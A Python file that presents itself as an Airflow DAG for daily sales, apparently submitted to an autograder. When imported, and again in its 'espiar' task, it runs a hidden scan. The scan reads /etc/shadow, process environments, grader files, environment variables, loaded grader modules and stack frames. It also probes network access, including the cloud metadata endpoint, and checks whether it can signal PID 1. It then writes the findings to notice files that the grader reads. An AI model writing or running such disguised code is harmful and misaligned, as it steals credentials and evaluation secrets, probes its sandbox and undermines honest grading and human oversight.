"""Looks for everything that a submission must not see, prints it, and leaves it where the grader will read it."""

import gc
import glob
import inspect
import os
import socket
import sys

import pendulum
from airflow.sdk import dag, task

PLACES = (
    "/curso/**/*", "/work/*/*", "/work/*/*/*/*/*", "/home/*/*", "/root/*", "/tmp/*", "/var/tmp/*", "/mundo/../*", "/entrega/../*/*",
    "/etc/shadow", "/etc/hostname", "/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/cwd/*",
    "/proc/[0-9]*/root/work/*/*/*/*/*", "/proc/[0-9]*/root/root/*", "/proc/self/mountinfo",
)  # fmt: skip
OPEN = (".py", ".toml", ".json", ".md", ".csv", "environ", "cmdline", "mountinfo", "shadow", "hostname")
told = []


def tell(*words):
    told.append(" ".join(map(str, words)))
    print(*words)


def look():
    for pattern in PLACES:
        for path in glob.glob(pattern, recursive=True)[:400]:
            if "site-packages" in path or not path.endswith(OPEN) or not os.path.isfile(path):
                continue
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                tell("SEEN", path, os.read(fd, 20_000).decode("utf-8", "replace"))
                os.close(fd)
            except OSError as error:
                tell("SHUT", path, error.errno)
    tell("ENV", dict(os.environ))
    tell("MODULES", [name for name in sys.modules if "autograder" in name or "curso" in name])
    tell("HOLD", [type(o).__name__ for o in gc.get_objects() if type(o).__name__ in ("Draw", "Day", "Evidence")])
    frame = inspect.currentframe()
    while frame:
        tell("FRAME", frame.f_code.co_filename, str(frame.f_locals)[:300])
        frame = frame.f_back
    for host in (("127.0.0.1", 80), ("1.1.1.1", 53), ("169.254.169.254", 80)):
        try:
            socket.create_connection(host, timeout=0.5)
            tell("REACHED", host)
        except OSError as error:
            tell("SHUT", host, error)
    try:
        os.kill(1, 0)
        tell("MAY SIGNAL 1")
    except OSError as error:
        tell("SHUT signal", error)
    # What is printed is cut; a notice is read whole.
    for n in range(0, len(told), 20):
        try:
            with open(f"/mundo/avisos/visto_{n}.txt", "w", encoding="utf-8") as notice:
                notice.write("\n".join(told[n : n + 20])[:200_000])
        except OSError as error:
            print("SHUT notice", error)


look()


@dag(
    dag_id="vendas_diarias",
    schedule="0 2 * * *",
    start_date=pendulum.datetime(2026, 1, 1, tz="America/Sao_Paulo"),
    catchup=False,
)
def vendas_diarias():
    @task(owner="espião")
    def espiar():
        look()

    espiar()


vendas_diarias()
